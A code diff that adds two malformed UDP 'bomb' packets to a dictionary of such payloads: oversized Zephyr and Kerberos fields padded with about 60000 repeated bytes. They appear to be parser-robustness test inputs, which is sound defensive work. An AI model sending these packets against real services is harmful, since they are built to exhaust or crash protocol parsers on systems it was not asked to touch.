@@ -82,5 +82,7 @@ BOMBS: dict[str, Bomb] = {
     "AVPs of L2TP": each(udp(1701, b"\xc0\2\xea\x68" + bytes(4) + b"\0\6\0\1\0\x63" * 10000)),
     "PDUs of LDP": each(udp(646, b"\0\1\0\0" * 15000)),
     "elements of Babel": each(udp(6696, b"\x2a\2\xea\x60" + bytes(60000))),
+    "a long field of Zephyr": each(udp(2103, b"ZEPH0.2\0" + b"\0" * 7 + b"\x80" * 60000 + b"\0" * 9)),
+    "names of Kerberos": each(udp(750, b"\4\2" + b"\x80" * 60000 + b"\0\0\0")),
     "fields of Zephyr": each(udp(2103, b"ZEPH0.2\0" + bytes(60000))),
 }
